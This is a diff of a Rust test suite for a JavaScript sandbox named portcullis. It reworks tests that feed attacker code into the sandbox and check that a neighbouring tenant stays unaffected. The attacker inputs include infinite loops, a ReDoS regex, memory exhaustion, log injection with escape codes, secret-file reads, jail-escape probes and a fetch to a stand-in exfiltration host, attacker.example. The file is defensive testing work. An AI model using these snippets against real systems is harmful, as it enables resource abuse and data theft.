@@ -12,37 +12,13 @@ use http_body_util::Full;
 use portcullis_operators::jail::Layer;
 use portcullis_operators::{Cause, OperatorConfig};
 
-use support::{Chunks, Host, Kind, Then, eventually};
-
-on_each_engine! {
-    async loops_are_ended;
-    async waiting_for_ever_ends_the_request_and_not_the_process;
-    async cpu_burnt_in_small_pieces_is_charged;
-    async work_without_a_request_is_bounded;
-    async memory_is_bounded_of_every_kind;
-    async failures_in_a_handler_cost_at_most_its_process;
-    async a_crash_loop_is_paused_and_said;
-    async bodies_are_bounded_in_both_directions;
-    async a_body_that_never_comes_is_the_clients_fault;
-    async an_endless_trickle_ends_with_the_time_limit;
-    async more_requests_at_once_than_allowed_are_refused;
-    async responses_that_are_none_are_refused;
-    async a_flood_of_log_lines_is_cut;
-    async nothing_is_reachable_by_any_name;
-    async what_code_made_at_run_time_imports_is_out_of_reach;
-    async changing_the_shims_surroundings_gains_nothing;
-    async clocks_are_too_coarse_to_watch_the_machine_with;
-    async refused_destinations_are_not_looked_up;
-    async (flavor = "multi_thread", worker_threads = 2) what_belongs_to_another_operator_is_out_of_reach;
-    async an_operator_cannot_listen_where_others_connect;
-    async a_burst_over_many_attackers_leaves_the_neighbour_well;
-}
+use support::{Chunks, Host, Then, eventually};
 
 const NEIGHBOUR: &str = "export default { fetch() { return new Response('well'); } };";
 
 /// Serves the attacker beside a neighbour.
-async fn beside(engine: Kind, code: &str, change: impl FnOnce(&mut OperatorConfig)) -> Host {
-    let host = Host::new(engine);
+async fn beside(code: &str, change: impl FnOnce(&mut OperatorConfig)) -> Host {
+    let host = Host::new();
     let attacker = host.operator("attacker", code, change);
     host.serve(vec![attacker, host.operator("neighbour", NEIGHBOUR, |_| {})]).await;
     host
@@ -57,14 +33,8 @@ async fn neighbour_is_well(host: &Host) {
 }
 
 /// One request ends with the cause; the operator answers again afterwards at `/ok`, if it is meant to.
-async fn check(
-    engine: Kind,
-    code: &str,
-    change: impl FnOnce(&mut OperatorConfig),
-    path: &str,
-    causes: &[Cause],
-) -> Host {
-    let host = beside(engine, code, change).await;
+async fn check(code: &str, change: impl FnOnce(&mut OperatorConfig), path: &str, causes: &[Cause]) -> Host {
+    let host = beside(code, change).await;
     let result = host.get("attacker", path).await;
     let cause = result.as_ref().err().copied();
     assert!(cause.is_some_and(|cause| causes.contains(&cause)), "{result:?}\n{}", host.log("attacker"));
@@ -84,49 +54,40 @@ fn handler(attack: &str) -> String {
     )
 }
 
-async fn loops_are_ended(engine: Kind) {
+#[tokio::test]
+async fn loops_are_killed_and_replaced() {
     for attack in [
         "for (;;) {}",
         "/^(a+)+$/.test('a'.repeat(60) + 'b');",
         "const again = (): Promise<void> => Promise.resolve().then(again); await again();",
     ] {
-        let host = check(
-            engine,
-            &handler(attack),
-            |config| config.limits.cpu = Duration::from_millis(200),
-            "/",
-            &[Cause::CpuTime],
-        )
-        .await;
-        match engine {
-            Kind::Deno => {
-                eventually("the process was killed", async || {
-                    host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_stalled") == 1
-                })
+        let host =
+            check(&handler(attack), |config| config.limits.cpu = Duration::from_millis(200), "/", &[Cause::CpuTime])
                 .await;
-            }
-            // It ends the loop, and the process goes on.
-            Kind::Runner => assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1),
-        }
+        eventually("the process was killed", async || {
+            host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_stalled") == 1
+        })
+        .await;
     }
 }
 
-async fn waiting_for_ever_ends_the_request_and_not_the_process(engine: Kind) {
+#[tokio::test]
+async fn waiting_for_ever_ends_the_request_and_not_the_process() {
     let limit = |config: &mut OperatorConfig| config.limits.wall = Duration::from_millis(300);
-    let host = check(engine, &handler("await new Promise(() => {});"), limit, "/", &[Cause::WallTime]).await;
+    let host = check(&handler("await new Promise(() => {});"), limit, "/", &[Cause::WallTime]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
 }
 
-async fn cpu_burnt_in_small_pieces_is_charged(engine: Kind) {
+#[tokio::test]
+async fn cpu_burnt_in_small_pieces_is_charged() {
     let attack = "for (;;) { const end = performance.now() + 20; while (performance.now() < end); await new Promise(r => setTimeout(r, 1)); }";
-    check(engine, &handler(attack), |config| config.limits.cpu = Duration::from_millis(300), "/", &[Cause::CpuTime])
-        .await;
+    check(&handler(attack), |config| config.limits.cpu = Duration::from_millis(300), "/", &[Cause::CpuTime]).await;
 }
 
-async fn work_without_a_request_is_bounded(engine: Kind) {
+#[tokio::test]
+async fn work_without_a_request_is_bounded() {
     let attack = "setInterval(() => { const end = performance.now() + 50; while (performance.now() < end); }, 51);";
-    let host =
-        beside(engine, &handler(attack), |config| config.limits.background_cpu = Duration::from_millis(300)).await;
+    let host = beside(&handler(attack), |config| config.limits.background_cpu = Duration::from_millis(300)).await;
     host.text("attacker", "/").await;
     eventually("it was killed", async || {
         host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_background_cpu") >= 1
@@ -135,7 +96,8 @@ async fn work_without_a_request_is_bounded(engine: Kind) {
     neighbour_is_well(&host).await;
 }
 
-async fn memory_is_bounded_of_every_kind(engine: Kind) {
+#[tokio::test]
+async fn memory_is_bounded_of_every_kind() {
     let small = |config: &mut OperatorConfig| {
         config.limits.heap_bytes = 32 << 20;
         config.limits.memory_bytes = 96 << 20;
@@ -149,16 +111,17 @@ async fn memory_is_bounded_of_every_kind(engine: Kind) {
         "let text = 'x'; for (;;) { text += text; kept.push(new TextEncoder().encode(text)); }",
         "for (;;) kept.push(new Blob([new Uint8Array(1 << 20).fill(1)]));",
     ] {
-        check(engine, &handler(attack), small, "/", &causes).await;
+        check(&handler(attack), small, "/", &causes).await;
     }
 }
 
-async fn failures_in_a_handler_cost_at_most_its_process(engine: Kind) {
+#[tokio::test]
+async fn failures_in_a_handler_cost_at_most_its_process() {
     let deep = "const f = (): number => 1 + f(); f();";
-    let host = check(engine, &handler(deep), |_| {}, "/", &[Cause::Exception]).await;
+    let host = check(&handler(deep), |_| {}, "/", &[Cause::Exception]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
     let later = "setTimeout(() => { throw new Error('later'); }, 1); Promise.reject(new Error('rejected')); await new Promise(r => setTimeout(r, 50)); throw 5;";
-    let host = check(engine, &handler(later), |_| {}, "/", &[Cause::Exception]).await;
+    let host = check(&handler(later), |_| {}, "/", &[Cause::Exception]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
     assert!(host.log("attacker").contains("Error: later") && host.log("attacker").contains("Error: rejected"));
     // Node's way out, for code that may make code.
@@ -167,12 +130,13 @@ async fn failures_in_a_handler_cost_at_most_its_process(engine: Kind) {
         config.dangerously_allow_code_generation = true;
         config.limits.wall = Duration::from_millis(3_000);
     };
-    check(engine, &handler(leave), limit, "/", &[Cause::Crashed, Cause::WallTime]).await;
+    check(&handler(leave), limit, "/", &[Cause::Crashed, Cause::WallTime]).await;
 }
 
-async fn a_crash_loop_is_paused_and_said(engine: Kind) {
+#[tokio::test]
+async fn a_crash_loop_is_paused_and_said() {
     let code = handler("for (;;) kept.push(new Array(1000).fill({}));");
-    let host = beside(engine, &code, |config| {
+    let host = beside(&code, |config| {
         config.limits.heap_bytes = 16 << 20;
         config.limits.memory_bytes = 64 << 20;
         config.limits.cpu = Duration::from_millis(20_000);
@@ -183,24 +147,18 @@ async fn a_crash_loop_is_paused_and_said(engine: Kind) {
     while causes.len() < 12 && !causes.contains(&Cause::CrashLoop) {
         causes.extend(host.get("attacker", "/").await.err());
     }
-    match engine {
-        Kind::Deno => assert!(causes.contains(&Cause::CrashLoop) && causes[0] == Cause::Memory, "{causes:?}"),
-        // Its process does not end for want of memory.
-        Kind::Runner => {
-            assert!(causes.iter().all(|cause| *cause == Cause::Memory), "{causes:?}");
-            assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
-        }
-    }
+    assert!(causes.contains(&Cause::CrashLoop) && causes[0] == Cause::Memory, "{causes:?}");
     neighbour_is_well(&host).await;
 }
 
-async fn bodies_are_bounded_in_both_directions(engine: Kind) {
+#[tokio::test]
+async fn bodies_are_bounded_in_both_directions() {
     let code = handler(
         "const n = Number(new URL(request.url).searchParams.get('n')); if (n) return new Response('x'.repeat(n)); \
          if (request.method === 'POST') return new Response(String((await request.arrayBuffer()).byteLength)); \
          return new Response(new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(10000)); } }));",
     );
-    let host = beside(engine, &code, |config| {
+    let host = beside(&code, |config| {
         config.limits.request_bytes = 1000;
         config.limits.response_bytes = 50_000;
     })
@@ -221,9 +179,10 @@ async fn bodies_are_bounded_in_both_directions(engine: Kind) {
     neighbour_is_well(&host).await;
 }
 
-async fn a_body_that_never_comes_is_the_clients_fault(engine: Kind) {
+#[tokio::test]
+async fn a_body_that_never_comes_is_the_clients_fault() {
     let code = handler("await request.text();");
-    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(300)).await;
+    let host = beside(&code, |config| config.limits.wall = Duration::from_millis(300)).await;
     let request = Request::post("http://a/").body(Chunks::new(&[10], Then::Hang)).unwrap();
     let error = host.operators.call("attacker", request).await.err();
     assert_eq!(error.map(|error| error.cause), Some(Cause::RequestTime));
@@ -231,18 +190,20 @@ async fn a_body_that_never_comes_is_the_clients_fault(engine: Kind) {
     neighbour_is_well(&host).await;
 }
 
-async fn an_endless_trickle_ends_with_the_time_limit(engine: Kind) {
+#[tokio::test]
+async fn an_endless_trickle_ends_with_the_time_limit() {
     let code = handler(
         "return new Response(new ReadableStream({ async pull(c) { c.enqueue(new Uint8Array(1)); await new Promise(r => setTimeout(r, 20)); } }));",
     );
-    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(400)).await;
+    let host = beside(&code, |config| config.limits.wall = Duration::from_millis(400)).await;
     assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::WallTime);
     neighbour_is_well(&host).await;
 }
 
-async fn more_requests_at_once_than_allowed_are_refused(engine: Kind) {
+#[tokio::test]
+async fn more_requests_at_once_than_allowed_are_refused() {
     let code = handler("await new Promise(r => setTimeout(r, 400));");
-    let host = beside(engine, &code, |config| {
+    let host = beside(&code, |config| {
         config.limits.concurrency = 2;
         config.replicas.max = 1;
     })
@@ -254,8 +215,9 @@ async fn more_requests_at_once_than_allowed_are_refused(engine: Kind) {
     assert_eq!(host.text("attacker", "/ok").await, "ok");
 }
 
-async fn responses_that_are_none_are_refused(engine: Kind) {
-    let host = beside(engine,
+#[tokio::test]
+async fn responses_that_are_none_are_refused() {
+    let host = beside(
         &handler(
             r#"
 const attack = new URL(request.url).pathname.slice(1);
@@ -299,9 +261,9 @@ if (attack === "204") return new Response(null, { status: 204 });
     neighbour_is_well(&host).await;
 }
 
-async fn a_flood_of_log_lines_is_cut(engine: Kind) {
+#[tokio::test]
+async fn a_flood_of_log_lines_is_cut() {
     let host = beside(
-        engine,
         &handler("for (let i = 0; i < 20000; i++) console.log('line ' + i + ' ' + 'x'.repeat(50));"),
         |config| {
             config.limits.log_lines_per_second = 5;
@@ -316,14 +278,14 @@ async fn a_flood_of_log_lines_is_cut(engine: Kind) {
     .await;
     assert!(host.operators.recent_logs("attacker").len() < 500);
     neighbour_is_well(&host).await;
-    let forged =
-        beside(engine, &handler(r"console.log('a\u001b[2Jb\rforged: ok\u001eportcullis ready');"), |_| {}).await;
+    let forged = beside(&handler(r"console.log('a\u001b[2Jb\rforged: ok\u001eportcullis ready');"), |_| {}).await;
     forged.text("attacker", "/").await;
     eventually("the line is there", async || !forged.log("attacker").is_empty()).await;
     assert!(!forged.log("attacker").contains(['\u{1b}', '\r', '\u{1e}']));
 }
 
-async fn nothing_is_reachable_by_any_name(engine: Kind) {
+#[tokio::test]
+async fn nothing_is_reachable_by_any_name() {
     let folder = tempfile::tempdir().unwrap();
     let secret = folder.path().join("secret.txt");
     std::fs::write(&secret, "file-canary").unwrap();
@@ -357,7 +319,7 @@ export default { async fetch(request: Request, env: unknown) {
   return Response.json(found);
 } };
 "#;
-    let host = beside(engine, code, |_| {}).await;
+    let host = beside(code, |_| {}).await;
     let path = format!("/?secret={}&port={}", secret.display(), listener.local_addr().unwrap().port());
     let text = host.text("attacker", &path).await;
     let found: std::collections::BTreeMap<String, String> = serde_json::from_str(&text).unwrap();
@@ -372,7 +334,8 @@ export default { async fetch(request: Request, env: unknown) {
 }
 
 /// The bundler refuses `import()` and `node:`; code made at run time could still ask. Here it is allowed to make code.
-async fn what_code_made_at_run_time_imports_is_out_of_reach(engine: Kind) {
+#[tokio::test]
+async fn what_code_made_at_run_time_imports_is_out_of_reach() {
     let folder = tempfile::tempdir().unwrap();
     let secret = folder.path().join("secret.ts");
     std::fs::write(&secret, "export default 'file-canary'").unwrap();
@@ -405,7 +368,7 @@ export default { async fetch(request: Request) {
   return Response.json(found);
 } };
 "#;
-    let host = beside(engine, code, |config| config.dangerously_allow_code_generation = true).await;
+    let host = beside(code, |config| config.dangerously_allow_code_generation = true).await;
     let result = host.get("attacker", &format!("/?secret={}", secret.display())).await;
     match result {
         Ok(response) => {
@@ -423,7 +386,8 @@ export default { async fetch(request: Request) {
     neighbour_is_well(&host).await;
 }
 
-async fn changing_the_shims_surroundings_gains_nothing(engine: Kind) {
+#[tokio::test]
+async fn changing_the_shims_surroundings_gains_nothing() {
     let origin = support::Origin::start().await;
     let code = format!(
         r#"
@@ -442,7 +406,7 @@ export default {{ async fetch() {{
 "#,
         origin.port
     );
-    let host = beside(engine, &code, |_| {}).await;
+    let host = beside(&code, |_| {}).await;
     assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::Exception);
     eventually("the log has it", async || !host.log("attacker").is_empty()).await;
     assert_eq!(origin.connections(), 0);
@@ -450,7 +414,8 @@ export default {{ async fetch() {{
 }
 
 /// What a neighbour does shows in the time that one's own work takes, if one can measure it finely enough.
-async fn clocks_are_too_coarse_to_watch_the_machine_with(engine: Kind) {
+#[tokio::test]
+async fn clocks_are_too_coarse_to_watch_the_machine_with() {
     let code = r#"
 const steps = (clock: () => number) => { let least = Infinity, last = clock(); const end = Date.now() + 150; while (Date.now() < end) { const now = clock(); if (now !== last) { least = Math.min(least, now - last); last = now; } } return least; };
 const any = globalThis as any;
@@ -474,7 +439,7 @@ export default { fetch() {
   return Response.json(found);
 } };
 "#;
-    let host = beside(engine, code, |_| {}).await;
+    let host = beside(code, |_| {}).await;
     let found: serde_json::Value = serde_json::from_str(&host.text("attacker", "/").await).unwrap();
     assert_eq!(found["threads"], 0, "{found}");
     assert!(found["now"].is_number(), "{found}");
@@ -487,7 +452,8 @@ export default { fetch() {
 }
 
 /// A refusal says the same, as fast, whether or not there is something at the other end: nothing is even resolved.
-async fn refused_destinations_are_not_looked_up(engine: Kind) {
+#[tokio::test]
+async fn refused_destinations_are_not_looked_up() {
     #[derive(Debug, Default)]
     struct Asked(std::sync::Mutex<Vec<String>>);
     impl portcullis_operators::Resolve for Asked {
@@ -501,7 +467,7 @@ async fn refused_destinations_are_not_looked_up(engine: Kind) {
         }
     }
     let asked = std::sync::Arc::new(Asked::default());
-    let host = Host::with_resolver(engine, |_| {}, std::sync::Arc::<Asked>::clone(&asked));
+    let host = Host::with_resolver(|_| {}, std::sync::Arc::<Asked>::clone(&asked));
     let code = handler(
         "const of = async (url: string) => { try { await fetch(url); return 'answered'; } catch (e) { return String(e); } };\n\
          return Response.json([await of('http://granted.example/'), await of('http://secret-data.attacker.example/'), await of('http://granted.example:81/')]);",
@@ -515,8 +481,9 @@ async fn refused_destinations_are_not_looked_up(engine: Kind) {
 
 /// From inside a jail, with all of the engine's permissions and raw system calls: the neighbour's process, its sockets, its
 /// store, and the host that both belong to.
-async fn what_belongs_to_another_operator_is_out_of_reach(engine: Kind) {
-    let host = Host::new(engine);
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_belongs_to_another_operator_is_out_of_reach() {
+    let host = Host::new();
     // Readable as far as modes go, so that the jail alone is what denies.
     use std::os::unix::fs::PermissionsExt;
     std::fs::set_permissions(host.folder.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
@@ -581,13 +548,14 @@ Deno.exit(0);
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.neighbour"), 1);
 }
 
-async fn an_operator_cannot_listen_where_others_connect(engine: Kind) {
+#[tokio::test]
+async fn an_operator_cannot_listen_where_others_connect() {
     // The engine's socket is the process's own; taking its place is only possible for code that escaped the engine, and
     // what the host then connects to is checked. Here the surface that the contract leaves.
     let code = handler(
         "if ('Deno' in globalThis) return new Response('Deno is there'); const s = (await (globalThis as any).navigator?.serial?.requestPort?.()); return new Response(String(s));",
     );
-    let host = beside(engine, &code, |_| {}).await;
+    let host = beside(&code, |_| {}).await;
     assert_eq!(host.text("attacker", "/").await, "undefined");
     for path in ["/load", "/ping"] {
         let request =
@@ -596,8 +564,9 @@ async fn an_operator_cannot_listen_where_others_connect(engine: Kind) {
     }
 }
 
-async fn a_burst_over_many_attackers_leaves_the_neighbour_well(engine: Kind) {
-    let host = Host::new(engine);
+#[tokio::test]
+async fn a_burst_over_many_attackers_leaves_the_neighbour_well() {
+    let host = Host::new();
     let mut operators = vec![host.operator("neighbour", NEIGHBOUR, |_| {})];
     for (name, attack) in [
         ("loop", "for (;;) {}"),
